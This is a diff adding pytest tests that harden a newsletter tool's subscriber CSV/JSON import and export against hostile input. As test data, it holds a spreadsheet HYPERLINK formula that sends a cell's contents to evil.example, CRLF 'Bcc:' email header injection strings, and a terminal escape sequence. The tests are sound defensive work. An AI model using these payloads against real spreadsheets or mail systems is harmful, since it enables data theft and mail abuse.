@@ -16,7 +16,7 @@ import pytest
 from click.testing import CliRunner, Result
 
 from digest.audience import records
-from digest.audience.exports import write_export
+from digest.audience.exports import spreadsheet_cell, write_export
 from digest.audience.imports.importer import import_file
 from digest.audience.imports.mapping import parse_mapping
 from digest.audience.imports.report import ImportReport
@@ -720,3 +720,100 @@ def test_rows_of_a_plain_json_list_that_cannot_be_used_are_rejected_with_the_rea
     gone = store.get("gone@example.com")  # a list that only says when someone left
     assert gone is not None and gone.status == "unsubscribed"
     assert {s.email for s in store.list()} == {"ok@example.com", "gone@example.com"}
+
+
+# ------------------------------------------------------------------- hostile rows and cells
+
+
+def test_csv_formula_injection_is_prefixed_in_the_export(
+    store: SubscriberStore, tmp_path: Path
+) -> None:
+    """Cells starting with = + - @, a tab or a CR are prefixed with ' so that a spreadsheet
+    shows them as text; the export still reads back into the same names."""
+    names = {
+        "a@example.com": '=HYPERLINK("https://evil.example/?"&A2,"click")',
+        "b@example.com": "+1+2",
+        "c@example.com": "-2+3",
+        "d@example.com": "@SUM(1)",
+        "e@example.com": "\t=1",
+        "f@example.com": "Ann = Lee",
+    }
+    for email, name in names.items():
+        store.add(email, name=name, now=NOW)
+    out = io.StringIO()
+    write_export(store, out, fmt="csv")
+    cells = {row["email"]: row["name"] for row in csv.DictReader(io.StringIO(out.getvalue()))}
+    assert cells == {
+        "a@example.com": '\'=HYPERLINK("https://evil.example/?"&A2,"click")',
+        "b@example.com": "'+1+2",
+        "c@example.com": "'-2+3",
+        "d@example.com": "'@SUM(1)",
+        "e@example.com": "'=1",  # names lose control characters when stored: "\t=1" is "=1"
+        "f@example.com": "Ann = Lee",
+    }
+    assert [spreadsheet_cell(v) for v in ("\t=1", "\r=1", "=", "a=b", "")] == [
+        "'\t=1",
+        "'\r=1",
+        "'=",
+        "a=b",
+        "",
+    ]
+    # digest's own CSV reads back into the same names
+    path = tmp_path / "export.csv"
+    path.write_text(out.getvalue(), encoding="utf-8")
+    again = SubscriberStore(tmp_path / "again.sqlite")
+    load(again, str(path))
+    assert {s.email: s.name for s in again.list()} == {
+        **{e: n for e, n in names.items() if e != "e@example.com"},
+        "e@example.com": "=1",
+    }
+
+
+def test_header_injection_names_lose_control_characters_at_every_entry(
+    store: SubscriberStore, tmp_path: Path
+) -> None:
+    path = tmp_path / "list.csv"
+    path.write_text(
+        'email,name\nann@example.com,"Ann\r\nBcc: victim@example.com"\n'
+        'bob@example.com,"Bob\x1b]8;;https://evil.example\x07\u202eBad"\n',
+        encoding="utf-8",
+    )
+    load(store, str(path))
+    assert store.get("ann@example.com").name == "Ann Bcc: victim@example.com"  # type: ignore[union-attr]
+    assert store.get("bob@example.com").name == "Bob]8;;https://evil.exampleBad"  # type: ignore[union-attr]
+    # the subscribe form and `subscribers add` go through the same store
+    store.add("cy@example.com", name="Cy\nBcc: x@example.com\x00", now=NOW)
+    assert store.get("cy@example.com").name == "Cy Bcc: x@example.com"  # type: ignore[union-attr]
+    store.add("cy@example.com", name="Cy\r\nTo: y@example.com", now=NOW)
+    assert store.get("cy@example.com").name == "Cy To: y@example.com"  # type: ignore[union-attr]
+
+
+def test_one_bad_import_row_is_one_skipped_row(store: SubscriberStore, tmp_path: Path) -> None:
+    """A 5 MB field, a deeply nested value and a year-9999 date each reject their row, named
+    with its line and reason; the other rows are imported."""
+    big = "x" * (5 * 1024 * 1024)
+    path = tmp_path / "list.csv"
+    path.write_text(
+        "email,name,created\n"
+        "ann@example.com,Ann,2026-01-02\n"
+        f"big@example.com,{big},2026-01-02\n"
+        "late@example.com,Late,9999-12-31T23:59:59-01:00\n"
+        "bob@example.com,Bob,2026-01-03\n",
+        encoding="utf-8",
+    )
+    report = load(store, str(path))
+    assert sorted(s.email for s in store.list()) == ["ann@example.com", "bob@example.com"]
+    assert [(r.row, r.reason) for r in report.rejected] == [
+        (3, "a field is longer than 131072 characters"),
+        (4, "subscribed_at '9999-12-31T23:59:59-01:00' is out of range"),
+    ]
+    deep = tmp_path / "list.json"
+    deep.write_text(
+        '[{"email": "ann@example.com"},\n'
+        ' {"email": "deep@example.com", "name": ' + "[" * 100_000 + "]" * 100_000 + "},\n"
+        ' {"email": "cy@example.com"}]',
+        encoding="utf-8",
+    )
+    report = load(store, str(deep))
+    assert [(r.row, r.reason) for r in report.rejected] == [(2, "nested deeper than 32 levels")]
+    assert store.get("cy@example.com") is not None
